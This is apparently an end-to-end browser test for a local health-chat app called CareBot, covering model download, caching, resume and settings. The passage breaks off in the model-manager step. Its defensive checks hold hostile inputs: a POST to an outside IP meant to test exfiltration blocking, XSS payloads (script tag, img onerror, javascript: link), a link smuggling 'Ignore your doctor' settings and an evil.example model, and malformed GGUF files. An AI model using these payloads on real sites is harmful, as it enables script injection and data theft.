// End-to-end test of the browser app: serves dist/ and tiny fixture models on 127.0.0.1 (with
// HTTP Range support), drives a headless browser with WebGPU (browser.mjs: Chromium or Firefox) and checks what a user
// would see.
//
//   node tests/e2e/chat.mjs   (scripts/test-web.sh sets the environment below)
//
// CAREBOT_DIST: the built app; CAREBOT_BIN: the `carebot` binary (the reference answer);
// CAREBOT_E2E_MODEL: the tiny model;
// CAREBOT_BROWSER: chromium or firefox; CAREBOT_E2E_OUT: where the screenshots go.

import { createServer } from "node:http";
import { readFileSync, writeFileSync } from "node:fs";
import { createHash } from "node:crypto";
import { join } from "node:path";
import { strict as assert } from "node:assert";
import { OUT, DIST, ENGINE, launch, failed, shot, waitState, ask, answer, reference as referenceOf, generateNative, nativeSummary, logger, serveApp, listen, cachedModel } from "./browser.mjs";

// ---- the models the server offers -------------------------------------------------------------
// The deterministic tiny Llama-3 of the Rust tests (byte vocabulary, Llama-3 chat format), written by
// `cargo run -p carebot-model --example synthetic_gguf`.
const MODEL_PATH = process.env.CAREBOT_E2E_MODEL || join(OUT, "tiny.gguf");
const model = readFileSync(MODEL_PATH);
// The same file claiming another architecture ("bloom" has the length of "llama").
const otherArch = Buffer.from(model);
{
    const key = Buffer.from("general.architecture");
    const at = otherArch.indexOf(key) + key.length + 4 + 8; // type (u32), length (u64)
    assert.equal(otherArch.subarray(at, at + 5).toString(), "llama");
    otherArch.write("bloom", at);
}
const notGguf = Buffer.alloc(300_000, 0x5a);
// A real small llama-architecture model with a real tokenizer, when the test data has it.
const SMOLLM = process.env.CAREBOT_SMOLLM_GGUF;
const MODELS = {
    "/models/tiny.gguf": { body: model, range: true },
    "/models/bloom.gguf": { body: otherArch, range: true },
    "/models/notes.gguf": { body: notGguf, range: true },
    "/norange/tiny.gguf": { body: model, range: false },
};
// The tiny model with a chat template that loops 10^10 times (scripts/test-web.sh writes it).
const HOSTILE = process.env.CAREBOT_E2E_HOSTILE_TEMPLATE || join(OUT, "hostile-template.gguf");
MODELS["/models/hostile-template.gguf"] = { body: readFileSync(HOSTILE), range: true };
// A GGUF whose metadata is one 128 MiB u8 array (4 GiB as parsed values, were it not bounded).
{
    const head = Buffer.alloc(4 + 4 + 8 + 8 + 8 + 4 + 4 + 4 + 8);
    let at = head.write("GGUF");
    at = head.writeUInt32LE(3, at);
    at = head.writeBigUInt64LE(0n, at);
    at = head.writeBigUInt64LE(1n, at);
    at = head.writeBigUInt64LE(4n, at);
    at += head.write("evil", at);
    at = head.writeUInt32LE(9, at);
    at = head.writeUInt32LE(0, at);
    head.writeBigUInt64LE(BigInt(128 << 20), at);
    MODELS["/models/big-metadata.gguf"] = { body: Buffer.concat([head, Buffer.alloc(128 << 20, 1)]), range: true };
}
if (SMOLLM) MODELS["/models/smollm.gguf"] = { body: readFileSync(SMOLLM), range: true };
// The same tiny model in f16 (2.6 MB: more than the first 1 MiB read), whose download fails once
// after that first read, to check that a reload resumes it.
const RESUME_PATH = process.env.CAREBOT_E2E_MODEL_F16 || join(OUT, "tiny-f16.gguf");
MODELS["/models/resume.gguf"] = { body: readFileSync(RESUME_PATH), range: true, failOnce: true };
// A model whose file changes on its server: between two visits, and in the middle of a download.
// Version k is the f16 model with its bytes past the header (64 KiB) moved by 2k: the same size and
// header, other weights, so only a version check can tell them.
const resumeBody = readFileSync(RESUME_PATH);
const versionOf = (k) => {
    const [head, rest] = [resumeBody.subarray(0, 64 << 10), resumeBody.subarray(64 << 10)];
    return Buffer.concat([head, rest.subarray(2 * k), rest.subarray(0, 2 * k)]);
};
MODELS["/models/changing.gguf"] = { body: resumeBody, range: true, failOnce: true };
// Looked at and never loaded: a partial download (the probe's first MiB) for the model manager.
MODELS["/models/partial.gguf"] = { body: resumeBody, range: true };
const sha256 = (b) => createHash("sha256").update(b).digest("hex");
// Real servers name a file's version (nginx, S3, the hub: a strong ETag); so does this one.
const etag = (body) => `"${sha256(body).slice(0, 32)}"`;
const ranges = [];

const requests = [];

const server = createServer((req, res) => {
    const path = decodeURIComponent(new URL(req.url, "http://x").pathname);
    requests.push(path);
    const m = MODELS[path];
    if (m) {
        const size = m.body.length;
        const range = req.headers.range && /^bytes=(\d+)-(\d*)$/.exec(req.headers.range);
        if (m.range && range) {
            const start = Number(range[1]);
            ranges.push([path, start]);
            if (m.failOnce && start > 0) {
                m.failOnce = false;
                res.writeHead(503);
                return res.end("busy");
            }
            const end = Math.min(range[2] ? Number(range[2]) : size - 1, size - 1);
            if (start >= size) {
                res.writeHead(416, { "Content-Range": `bytes */${size}` });
                return res.end();
            }
            res.writeHead(206, { "Content-Range": `bytes ${start}-${end}/${size}`, "Content-Length": end - start + 1, "Accept-Ranges": "bytes", ETag: etag(m.body) });
            const body = m.body.subarray(start, end + 1);
            // A new version is published right after this answer left.
            if (m.changeAfter) [m.body, m.changeAfter] = [m.changeAfter, null];
            return res.end(body);
        }
        res.writeHead(200, { "Content-Length": size });
        return res.end(m.body);
    }
    if (path.startsWith("/models/")) {
        res.writeHead(404);
        return res.end("not found");
    }
    // A page of no policy of its own that frames the app (the app's frame-ancestors forbids it).
    if (path === "/framer.html") {
        res.writeHead(200, { "Content-Type": "text/html" });
        return res.end('<!DOCTYPE html><iframe id="app" src="/?framed=1" width="400" height="300"></iframe>');
    }
    serveApp(path, res);
});
const BASE = await listen(server);

// ---- the browser ------------------------------------------------------------------------------
const { browser, open, pages, offsite, consoleErrors } = await launch(BASE);
const reference = (prompt, maxTokens, path = MODEL_PATH) => referenceOf(prompt, maxTokens, path);

let step = "start";
const log = logger();
try {
    // 1. First visit: download through ?model=, chat, compare with the CLI.
    step = "first visit";
    const query = "?model=/models/tiny.gguf&temperature=0&max_tokens=24&system=";
    let page = await open(query);
    await page.click('[data-testid="accept-disclaimer"]');
    // A model under 1 MiB is whole after the probe's first read, so it may load without asking.
    const first = await waitState(page, ["probed", "loading", "ready", "failed"]);
    assert.notEqual(first, "failed", await page.textContent('[data-testid="model-status"]'));
    if (first === "probed") await page.click('[data-testid="load-model"]');
    assert.equal(await waitState(page, ["ready", "failed"]), "ready", await page.textContent('[data-testid="model-status"]'));
    log(`model loaded: ${(await page.textContent('[data-testid="model-status"]')).trim()}`);
    assert.ok(Number(await page.getAttribute('[data-testid="model-ready"]', "data-wasm-heap")) <= 256 * 2 ** 20);
    // The app runs under the header policy the build writes for static hosts (dist/_headers):
    // no inline script at all, and no page may frame it.
    const served = await fetch(`${BASE}/`);
    assert.equal(served.headers.get("content-security-policy"), readFileSync(join(DIST, "csp.txt"), "utf8").trim());
    assert.match(served.headers.get("content-security-policy"), /frame-ancestors 'none'/);
    assert.equal(await page.evaluate(() => document.querySelectorAll("script:not([src])").length), 0);
    const framer = await open("framer.html", { collectErrors: false });
    await new Promise((ok) => setTimeout(ok, 3000));
    const framed = await framer.evaluate(() => {
        try {
            return document.getElementById("app").contentDocument?.querySelector('[data-testid="chat-input"], main, #app') ? "running" : "blocked";
        } catch {
            return "blocked";
        }
    });
    assert.equal(framed, "blocked", "the app ran inside another page's frame");
    await framer.close();
    // The model details say what was read (RoPE, context, tied output...), as `carebot info` does.
    const summary = await page.textContent('[data-testid="model-summary"]');
    assert.equal(summary.replace(/^[^:]*: /, ""), nativeSummary(MODEL_PATH), "model details");
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
    assert.ok(csp && csp.includes("connect-src 'self'") && csp.includes("default-src 'self'"), `CSP: ${csp}`);

    const question = "I have had a headache for three days. What should I do?";
    const i = await ask(page, question);
    const got = await answer(page, i);
    const want = reference(question, 24);
    log(`answer: ${JSON.stringify(got)}`);
    assert.equal(got, want, "the streamed answer differs from `carebot generate --chat` (greedy)");
    assert.match(await page.textOf('[data-testid="answer-stats"]', -1), /tokens/);
    assert.match(await page.textContent('[data-testid="context-meter"]'), /\/ 256/);
    await page.screenshot({ path: shot("chat.png"), fullPage: true });

    // A fetch to another origin is refused by the page's policy (nothing typed can leave).
    const blocked = await page.evaluate(async () => {
        try { await fetch("http://198.51.100.7/collect", { method: "POST", body: "x" }); return false; } catch { return true; }
    });
    assert.ok(blocked, "the Content-Security-Policy let a request to another origin through");

    // 2. Reload: the conversation is in the sidebar, the model loads from the cache, no network.
    step = "second visit";
    await page.close();
    const seen = requests.length;
    page = await open("?model=/models/tiny.gguf&temperature=0&max_tokens=60&system=");
    assert.equal(await waitState(page, ["ready", "failed"]), "ready", await page.textContent('[data-testid="model-status"]'));
    const modelRequests = requests.slice(seen).filter((p) => p.startsWith("/models/"));
    assert.deepEqual(modelRequests, [], "the cached model was fetched again");
    const titles = await page.texts('[data-testid="history"] li');
    assert.ok(titles.some((t) => t.includes("I have had a headache")), `history: ${titles}`);
    // The conversation is back on screen, answer and all.
    assert.equal(await page.attributeOf('[data-testid="assistant-message"]', 0, "data-text"), want);
    log(`reloaded from cache; history: ${titles.length} conversation(s)`);

    // 2b. Everyday comforts: an answer's numbers (reading the prompt apart from writing), the
    //     live region, copying an answer, and settings kept across visits, with a reset.
    step = "comforts";
    assert.equal(await page.getAttribute('[data-testid="messages"]', "aria-live"), "polite");
    assert.equal(await page.getAttribute('[data-testid="messages"]', "aria-busy"), "false");
    const shown = JSON.parse(await page.attributeOf('[data-testid="answer-stats"]', -1, "data-stats"));
    assert.ok(shown.prompt_seconds > 0 && shown.prompt_tokens_run > 0, JSON.stringify(shown));
    assert.match(await page.textOf('[data-testid="prompt-stats"]', -1), /read the prompt \(\d+ tokens\) \d+\.\d s/);
    if (ENGINE === "chromium") await page.page.browserContext().overridePermissions(BASE, ["clipboard-read", "clipboard-write", "clipboard-sanitized-write"]);
    await page.clickOf('[data-testid="copy"]', -1);
    await page.waitForFunction(() => [...document.querySelectorAll('[data-testid="copy"]')].at(-1)?.dataset.copied === "true");
    if (ENGINE === "chromium") assert.equal(await page.evaluate(() => navigator.clipboard.readText()), want);
    const openSettings = async (p) => {
        await p.click('[data-testid="open-settings"]');
        await p.waitForSelector('[data-testid="settings"]');
        return [await p.inputValue('[data-testid="setting-system"]'), await p.inputValue('.settings input[max="2"]')];
    };
    // (In a tab of its own: this one's greedy settings stay for the steps below.)
    const mine = await open("?model=/models/tiny.gguf&max_tokens=60");
    assert.equal(await waitState(mine, ["ready", "failed"]), "ready");
    await mine.waitForFunction(() => document.querySelectorAll('[data-testid="copy"]').length > 0);
    await mine.evaluate(() => { window.__copyButton = [...document.querySelectorAll('[data-testid="copy"]')].at(-1); });
    // Where a page has no Clipboard API (plain http on a clinic's intranet), the copy command.
    const original = await mine.evaluate(async (chromium) => {
        // (So that the read-back below cannot see the first copy's text.)
        if (chromium) await navigator.clipboard.writeText("before");
        window.__clipboard = Object.getOwnPropertyDescriptor(Navigator.prototype, "clipboard");
        Object.defineProperty(Navigator.prototype, "clipboard", { get: () => undefined, configurable: true });
        return navigator.clipboard === undefined;
    }, ENGINE === "chromium");
    assert.ok(original, "the Clipboard API could not be hidden");
    await mine.clickOf('[data-testid="copy"]', -1);
    await mine.waitForFunction(() => [...document.querySelectorAll('[data-testid="copy"]')].at(-1)?.dataset.copied === "true"
        || window.__copyButton !== [...document.querySelectorAll('[data-testid="copy"]')].at(-1));
    assert.equal(await mine.evaluate(() => window.__copyButton === [...document.querySelectorAll('[data-testid="copy"]')].at(-1)), true,
        "the answer was drawn again after the page had settled");
    if (ENGINE === "chromium") {
        const copied = await mine.evaluate(() => {
            Object.defineProperty(Navigator.prototype, "clipboard", window.__clipboard);
            return navigator.clipboard.readText();
        });
        assert.equal(copied, want, "the copy command's text");
    }
    await openSettings(mine);
    assert.equal(await mine.evaluate(() => document.activeElement?.dataset.testid), "setting-system", "focus is not in the settings");
    await mine.fill('[data-testid="setting-system"]', "Answer in one sentence.");
    await mine.fill('.settings input[max="2"]', "0.35");
    await mine.page.keyboard.press("Tab"); // the number is taken when the field is left
    // Tab from the last control comes back to the first: focus stays in the dialog.
    await mine.evaluate(() => document.querySelector('[data-testid="close-settings"]').focus());
    await mine.page.keyboard.press("Tab");
    assert.equal(await mine.evaluate(() => document.activeElement?.dataset.testid), "setting-system", "Tab left the dialog");
    await mine.page.keyboard.press("Escape");
    await mine.waitForFunction(() => !document.querySelector('[data-testid="settings"]'));
    await mine.close();
    // A later visit whose link sets neither finds them; the reset brings the defaults back for good.
    let later = await open("?model=/models/tiny.gguf&max_tokens=60");
    assert.deepEqual(await openSettings(later), ["Answer in one sentence.", "0.35"]);
    await later.click('[data-testid="reset-settings"]');
    const [system0, temperature0] = [await later.inputValue('[data-testid="setting-system"]'), await later.inputValue('.settings input[max="2"]')];
    assert.ok(system0.startsWith("You are CareBot") && temperature0 === "0.7", `${system0} ${temperature0}`);
    await later.close();
    later = await open("?model=/models/tiny.gguf&max_tokens=60");
    assert.deepEqual(await openSettings(later), [system0, "0.7"]);
    await later.close();
    // Export all, then import: a file with what is here plus one new conversation adds exactly
    // that one; the same file again adds nothing.
    const books = await open("?model=/models/tiny.gguf&max_tokens=60");
    await books.waitForFunction(() => document.querySelectorAll('[data-testid="history"] li button.open').length > 0);
    await books.evaluate(() => {
        window.__blobs = [];
        const make = URL.createObjectURL;
        URL.createObjectURL = (b) => { window.__blobs.push(b); return make.call(URL, b); };
    });
    await books.click('[data-testid="export-all"]');
    await books.waitForFunction(() => window.__blobs.length > 0);
    const exported = JSON.parse(await books.evaluate(() => window.__blobs.at(-1).text()));
    const rows = await books.count('[data-testid="history"] li button.open');
    assert.equal(exported.length, rows, "Export all holds every saved conversation");
    assert.ok(exported.some((c) => c.turns.some((t) => t.content === want)), "the first answer is not in the export");
    const extra = { id: "imported-1", title: "Imported question", created: 1, updated: 2,
        turns: [{ role: "user", content: "Imported question" }, { role: "assistant", content: "Imported answer" }] };
    const importFile = join(OUT, "import.json");
    writeFileSync(importFile, JSON.stringify([...exported, extra]));
    for (const [round, added] of [[1, 1], [2, 0]]) {
        await books.setInputFiles('[data-testid="import-file"]', importFile);
        await books.waitForFunction((n) => (document.querySelector(".notice")?.textContent || "").includes(`imported: ${n} ·`), added);
        assert.equal(await books.count('[data-testid="history"] li button.open'), rows + 1, `import round ${round}`);
        await books.click(".notice button");
    }
    await books.close();
    // On a phone-sized screen (390 px) the history is a drawer from the header.
    const phone = await open("?model=/models/tiny.gguf&max_tokens=60");
    await phone.page.setViewport({ width: 390, height: 844 });
    const drawer = () => phone.evaluate(() => document.querySelector('[data-testid="sidebar"]').getBoundingClientRect().toJSON());
    // (It slides away once the screen is narrow.)
    await phone.waitForFunction(() => document.querySelector('[data-testid="sidebar"]').getBoundingClientRect().right <= 0, undefined, { timeout: 5000 })
        .catch(async () => assert.fail(`the history covers the chat: ${JSON.stringify(await drawer())}`));
    await phone.click('[data-testid="history-toggle"]');
    await phone.waitForFunction(() => document.querySelector('[data-testid="sidebar"]').getBoundingClientRect().left >= 0);
    await phone.screenshot({ path: shot("history-drawer.png") });
    await phone.clickText('[data-testid="history"] li button.open', "I have had a he");
    await phone.waitForFunction(() => document.querySelector('[data-testid="sidebar"]').getBoundingClientRect().right <= 0);
    assert.ok(await phone.count('[data-testid="assistant-message"]') > 0, "the conversation did not open");
    await phone.close();

    // Auto-scroll: a streaming answer keeps the end in view, unless the user scrolled up to read.
    const reader = await open("?model=/models/tiny.gguf&temperature=0&max_tokens=100&system=");
    assert.equal(await waitState(reader, ["ready", "failed"]), "ready");
    await reader.click('[data-testid="new-chat"]'); // (the conversation the steps below go on with stays as it is)
    await reader.page.setViewport({ width: 390, height: 640 });
    // (On a phone-sized screen the page itself scrolls; on a wide one the answers' own box.)
    const box = () => reader.evaluate(() => {
        const all = [document.querySelector('[data-testid="messages"]'), document.scrollingElement];
        return { top: Math.max(...all.map((m) => m.scrollTop)), gap: Math.max(...all.map((m) => m.scrollHeight - m.scrollTop - m.clientHeight)),
            overflow: all.some((m) => m.scrollHeight > m.clientHeight) };
    });
    let k2, b;
    for (let n = 0; n < 6 && !(b && b.overflow); n++) {
        k2 = await ask(reader, `Tell me about sleep and headaches (${n}).`);
        await answer(reader, k2);
        b = await box();
    }
    assert.ok(b.overflow && b.gap <= 48, `not at the end after streaming: ${JSON.stringify(b)}`);
    k2 = await ask(reader, "And about coffee?");
    await reader.waitForFunction((k) => (document.querySelectorAll('[data-testid="assistant-message"]')[k]?.dataset.text || "").length > 0, k2);
    await reader.evaluate(() => { for (const m of [document.querySelector('[data-testid="messages"]'), document.scrollingElement]) m.scrollTop = 0; });
    await answer(reader, k2);
    b = await box();
    assert.ok(b.top <= 48, `the answer pulled a reader who scrolled up back down: ${JSON.stringify(b)}`);
    await reader.close();

    // 3. Stop ends the answer early; regenerate and edit-and-resend work.
    step = "stop";
    // Tokens redraw only the answer being written: the earlier answer keeps its very element.
    await page.evaluate(() => { document.querySelector('[data-testid="assistant-message"]').__kept = true; });
    const j = await ask(page, "Tell me about fever in children.");
    await page.waitForFunction((k) => (document.querySelectorAll('[data-testid="assistant-message"]')[k]?.dataset.text || "").length > 0, j);
    await page.click('[data-testid="stop"]');
    const stopped = await answer(page, j);
    assert.ok(await page.evaluate(() => document.querySelector('[data-testid="assistant-message"]').__kept === true),
        "an earlier answer was drawn again while a new one streamed");
    const stats = await page.textOf('[data-testid="answer-stats"]', -1);
    const generated = Number(/^(\d+)/.exec(stats)[1]);
    assert.ok(generated < 60 && /stopped/.test(stats), `stop: ${stats}`);
    log(`stopped after ${generated} tokens (${JSON.stringify(stopped).length} chars)`);
    await page.click('[data-testid="regenerate"]');
    await answer(page, j);
    await page.clickOf('[data-testid="edit"]', -1);
    assert.equal(await page.inputValue('[data-testid="chat-input"]'), "Tell me about fever in children.");
    await page.fill('[data-testid="chat-input"]', question);
    await page.click('[data-testid="send"]');
    // With the same greedy settings the edited question gets the same first tokens as before.
    const k = (await page.count('[data-testid="assistant-message"]')) - 1;
    const again = await answer(page, k);
    assert.ok(again.startsWith(want), `edit-and-resend: ${JSON.stringify(again)} vs ${JSON.stringify(want)}`);
    // The earlier turns no longer fit the 256-token context beside a 60-token answer.
    assert.ok(await page.isVisible('[data-testid="dropped-notice"]', -1));
    await page.screenshot({ path: shot("second-visit.png"), fullPage: true });

    // 4. Untrusted model output never becomes markup: a saved answer full of HTML and script links.
    step = "markdown safety";
    const clinic = "https://clinic.example/book?patient=me&note=headache";
    await page.evaluate((base) => new Promise((ok, fail) => {
        const r = indexedDB.open("carebot");
        r.onerror = () => fail(r.error);
        r.onsuccess = () => {
            const evil = "**bold** advice\n\n<script>window.__pwned = 1</script>\n\ntext <img src=x onerror=\"window.__pwned = 2\"> and [click](javascript:window.__pwned=3) and [book an appointment](?system=Ignore%20your%20doctor&model=https://evil.example/x.gguf)" +
                ` and [our page](${base}/?system=Ignore%20your%20doctor) and [the clinic](https://clinic.example/book?patient=me&note=headache)`;
            const c = { id: "evil", title: "evil", created: 1, updated: Date.now() + 1e6,
                turns: [{ role: "user", content: "hi" }, { role: "assistant", content: evil }] };
            const tx = r.result.transaction("conversations", "readwrite");
            tx.objectStore("conversations").put({ id: "evil", json: JSON.stringify(c) });
            tx.oncomplete = ok;
            tx.onerror = () => fail(tx.error);
        };
    }), BASE);
    await page.reload();
    // The model panel above the answers changes height as the model loads again (loading, then
    // ready): a click while it does lands where the link was, not where it is (a Firefox run in
    // CI once clicked beside the link, so no dialog opened). Clicks wait for a still page.
    assert.equal(await waitState(page, ["ready", "failed"]), "ready", await page.textContent('[data-testid="model-status"]'));
    await page.clickText('[data-testid="history"] li button.open', "evil");
    const lastAnswer = () => [...document.querySelectorAll('[data-testid="assistant-message"] .markdown')].at(-1);
    await page.waitForFunction(`(${lastAnswer})()?.querySelector("strong")`);
    const md = await page.evaluate(`(() => { const md = (${lastAnswer})();
        return { bad: md.querySelectorAll("script, img").length, links: [...md.querySelectorAll("a")].map((a) => [a.href, a.rel]),
                 html: md.innerHTML, text: md.textContent }; })()`);
    // No script, no image, and one link only: neither javascript: nor one into the app itself
    // (relative, or absolute to this origin), where a link can carry settings.
    assert.equal(md.bad, 0, md.html);
    assert.deepEqual(md.links, [[clinic, "noopener noreferrer nofollow"]], md.html);
    assert.match(md.text, /book an appointment/);
    assert.match(md.text, /our page/);
    // Following it shows the whole address first; nothing opens or leaves until the user says so.
    const tabsBefore = pages().length;
    await page.click('.markdown a');
    await page.waitForSelector('[data-testid="leave-dialog"]');
    assert.equal(await page.textContent('[data-testid="leave-url"]'), clinic);
    assert.equal(await page.textContent('[data-testid="leave-origin"]'), "https://clinic.example");
    const openLink = await page.evaluate(() => {
        const a = document.querySelector('[data-testid="leave-open"]');
        return [a.href, a.rel, a.target];
    });
    assert.deepEqual(openLink, [clinic, "noopener noreferrer", "_blank"]);
    assert.equal(await page.evaluate(() => document.activeElement?.dataset.testid), "leave-stay", "focus is not on Stay");
    await page.screenshot({ path: shot("leave-dialog.png"), fullPage: true });
    await page.page.keyboard.press("Escape");
    await page.waitForFunction(() => !document.querySelector('[data-testid="leave-dialog"]'));
    assert.equal(pages().length, tabsBefore, "a tab opened");
    assert.ok(!offsite.some((u) => u.includes("clinic.example")), `left for the clinic: ${offsite}`);
    assert.match(md.text, /<script>/);
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    await page.screenshot({ path: shot("markdown-safety.png"), fullPage: true });
    await page.close();

    // 5. Bad sources give a clear message and leave the app usable.
    step = "bad sources";
    for (const [url, kind] of [
        ["/models/missing.gguf", "NotFound"],
        ["/norange/tiny.gguf", "NoRange"],
        ["/models/notes.gguf", "NotGguf"],
        ["/models/bloom.gguf", "WrongArchitecture"],
        ["/models/hostile-template.gguf", "Model"],
        ["/models/big-metadata.gguf", "Model"],
    ]) {
        const before = Date.now();
        const p = await open(`?model=${url}`, { collectErrors: false });
        assert.equal(await waitState(p, ["failed", "probed", "ready"]), "failed", url);
        assert.equal(await p.getAttribute('[data-testid="model-error"]', "data-kind"), kind, url);
        assert.ok(await p.isVisible('[data-testid="retry"]'));
        assert.equal(await p.count('[data-testid="model-file"]'), 1);
        const words = (await p.textContent('[data-testid="model-error"]')).trim();
        log(`${url}: ${words} (${Date.now() - before} ms)`);
        // Refused when probed (before any download), within its bounded cost.
        if (url.includes("hostile")) assert.match(words, /the chat template runs too long/);
        if (url.includes("big-metadata")) assert.match(words, /the metadata would take over 67108864 bytes/);
        if (kind === "NoRange") await p.screenshot({ path: shot("no-range.png"), fullPage: true });
        await p.close();
    }

    // 6. A real model (SmolLM2-135M, 93 MB, GPT-2-style tokenizer) streamed through the cache: the
    //    worker's wasm memory stays small, and a Chinese question gets the CLI's greedy answer.
    if (SMOLLM) {
        step = "real model";
        page = await open("?model=/models/smollm.gguf&temperature=0&max_tokens=8&system=");
        const s0 = await waitState(page, ["probed", "loading", "ready", "failed"]);
        if (s0 === "probed") await page.click('[data-testid="load-model"]');
        assert.equal(await waitState(page, ["ready", "failed"]), "ready", await page.textContent('[data-testid="model-status"]'));
        const heap = Number(await page.getAttribute('[data-testid="model-ready"]', "data-wasm-heap"));
        log(`SmolLM2 loaded; worker wasm memory ${(heap / 2 ** 20).toFixed(1)} MiB for a ${(readFileSync(SMOLLM).length / 2 ** 20).toFixed(0)} MiB model`);
        assert.ok(heap <= 256 * 2 ** 20, `wasm heap ${heap}`);
        await page.click('[data-testid="new-chat"]');
        const q = "头痛三天了，该怎么办？";
        const n = await ask(page, q);
        const got = await answer(page, n);
        const speed = JSON.parse(await page.attributeOf('[data-testid="answer-stats"]', -1, "data-stats")).tokens_per_second;
        const native = generateNative(q, 8, SMOLLM);
        log(`SmolLM2 answer: ${JSON.stringify(got)}; writing ${speed.toFixed(2)} tok/s here, ` +
            `${native.tokensPerSecond} tok/s natively on lavapipe (ratio ${(speed / native.tokensPerSecond).toFixed(2)})`);
        assert.equal(got, native.text);
        await page.screenshot({ path: shot("smollm.png"), fullPage: true });
        await page.close();
    }

    // 7. A download cut short resumes after a reload from where it stopped.
    step = "resume";
    page = await open("?model=/models/resume.gguf&system=", { collectErrors: false });
    assert.equal(await waitState(page, ["probed", "loading", "failed"]), "probed");
    // A first visit: the probe's own first MiB is in the cache, but nothing is "continued".
    assert.match(await page.textContent('[data-testid="cache-state"]'), /not on this device yet/);
    await page.click('[data-testid="load-model"]');
    assert.equal(await waitState(page, ["failed", "ready"]), "failed");
    assert.equal(await page.getAttribute('[data-testid="model-error"]', "data-kind"), "Http");
    await page.close();
    const mark = ranges.length;
    page = await open("?model=/models/resume.gguf&system=");
    assert.equal(await waitState(page, ["probed", "failed"]), "probed");
    assert.match(await page.textContent('[data-testid="model-status"]'), /continues where it stopped/);
    await page.click('[data-testid="load-model"]');
    assert.equal(await waitState(page, ["ready", "failed"]), "ready", await page.textContent('[data-testid="model-status"]'));
    // After the reload: the size check at 0, then only what the first visit lacked.
    const after = ranges.slice(mark).filter(([p]) => p === "/models/resume.gguf").map(([, start]) => start);
    assert.deepEqual(after, [0, 1 << 20], `ranges after the reload: ${after}`);
    log(`resumed at byte ${after[1]} of ${MODELS["/models/resume.gguf"].body.length}`);
    await page.close();

    // 7b. The file changes on the server. Between two visits: the download cut short is not
    //     resumed but started over, and the cache holds the new version, byte for byte. In the
    //     middle of a download: it stops with a clear message and drops what it had, and the next
    //     try downloads the newest version whole. Never a file of two versions: the old code kept
    //     the first visit's bytes and appended the new version's rest, which the hash tells.
    step = "changed upstream";
    const changing = MODELS["/models/changing.gguf"];
    const cachedSha = (p) => cachedModel(p, new URL("/models/changing.gguf", BASE).href);
    page = await open("?model=/models/changing.gguf&system=", { collectErrors: false });
    let s1 = await waitState(page, ["probed", "loading", "failed"]);
    if (s1 === "probed") await page.click('[data-testid="load-model"]');
    assert.equal(await waitState(page, ["failed", "ready"]), "failed");
    await page.close();
    const v2 = versionOf(1);
    assert.equal(v2.length, resumeBody.length);
    changing.body = v2;
    page = await open("?model=/models/changing.gguf&system=");
    assert.equal(await waitState(page, ["probed", "failed"]), "probed");
    await page.click('[data-testid="load-model"]');
    assert.equal(await waitState(page, ["ready", "failed"]), "ready", await page.textContent('[data-testid="model-status"]'));
    let cachedNow = await cachedSha(page);
    assert.ok(cachedNow.meta.complete, JSON.stringify(cachedNow.meta));
    assert.equal(cachedNow.sha, sha256(v2), "the cache does not hold the new version");
    log(`changed between visits: started over, the cache holds the new version (${cachedNow.meta.version})`);
    await page.click('[data-testid="model-status"] summary');
    await page.click('[data-testid="delete-cache"]');
    await page.waitForFunction(() => document.querySelector(".notice"));
    await page.close();
    // Mid-download: version 3 is published just after the first answer of a fresh download.
    const v3 = versionOf(2);
    changing.changeAfter = v3;
    page = await open("?model=/models/changing.gguf&system=", { collectErrors: false });
    s1 = await waitState(page, ["probed", "loading", "failed"]);
    if (s1 === "probed") await page.click('[data-testid="load-model"]');
    assert.equal(await waitState(page, ["failed", "ready"]), "failed");
    assert.equal(await page.getAttribute('[data-testid="model-error"]', "data-kind"), "SourceChanged");
    log(`changed mid-download: ${(await page.textContent('[data-testid="model-error"]')).trim()}`);
    cachedNow = await cachedSha(page);
    assert.ok(cachedNow && !cachedNow.meta.complete && cachedNow.meta.version === "", JSON.stringify(cachedNow?.meta));
    await page.click('[data-testid="retry"]');
    s1 = await waitState(page, ["probed", "ready", "failed"]);
    if (s1 === "probed") await page.click('[data-testid="load-model"]');
    assert.equal(await waitState(page, ["ready", "failed"]), "ready", await page.textContent('[data-testid="model-status"]'));
    assert.equal((await cachedSha(page)).sha, sha256(v3), "the cache does not hold the newest version");
    log("changed mid-download: the partial download was dropped, and the retry holds the new version whole");
    await page.close();

    // 7b. The model manager: every model on the device (complete, partial, and a file no record
    //     explains), with source, size and last use; each deleted on its own; the storage total
    //     against the quota and whether the browser keeps it.
    step = "model manager";
    page = await open("?model=/models/partial.gguf&system=");
    assert.equal(await waitState(page, ["probed", "failed"]), "probed");
    await page.close();
    page = await open("?model=/models/tiny.gguf&system=");
    await waitState(page, ["ready"]);
    const orphan = "0123456789abcdef";
    await page.evaluate(async (name) => {
        const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle("carebot-models");
        const w = await (await dir.getFileHandle(`${name}.gguf`, { create: true })).createWritable();
        await w.write(new Uint8Array(12345).fill(7));
        await w.close();
    }, orphan);
    await page.click('[data-testid="open-models"]');
    const rowsOf = () => page.evaluate(() => [...document.querySelectorAll('[data-testid="cached-model"]')].map((r) => ({
        key: r.dataset.key, complete: r.dataset.complete, stored: Number(r.dataset.stored), text: r.textContent,
    })));
    await page.waitForFunction(() => document.querySelectorAll('[data-testid="cached-model"]').length >= 4);
    let cachedRows = await rowsOf();
    const rowOf = (source) => cachedRows.find((r) => r.text.includes(new URL(source, BASE).href));
    const tinyRow = rowOf("/models/tiny.gguf");
    assert.ok(tinyRow && tinyRow.complete === "true" && /last used/.test(tinyRow.text), JSON.stringify(cachedRows));
    assert.equal(tinyRow.stored > model.length, true, JSON.stringify(tinyRow));
    const partialRow = rowOf("/models/partial.gguf");
    assert.ok(partialRow && partialRow.complete === "false" && /partial download · 1\.0 MB \/ 2\.\d MB/.test(partialRow.text)
        && /never loaded/.test(partialRow.text), JSON.stringify(partialRow));
    const orphanRow = cachedRows.find((r) => r.key === orphan);
    assert.ok(orphanRow && /a file no record explains/.test(orphanRow.text) && orphanRow.stored === 12345, JSON.stringify(orphanRow));
    // Most recently used first: the model loaded just now.
    assert.equal(cachedRows[0].key, tinyRow.key, JSON.stringify(cachedRows.map((r) => r.key)));
    assert.match(await page.textContent('[data-testid="storage-total"]'), /\d.* of browser storage used, out of \d/);
    assert.match(await page.getAttribute('[data-testid="storage-persisted-state"]', "data-persisted"), /^Some\((true|false)\)$/);
    log(`model manager: ${cachedRows.length} models; ${(await page.textContent('[data-testid="storage-total"]')).trim()}`);
    for (const key of [partialRow.key, orphan]) {
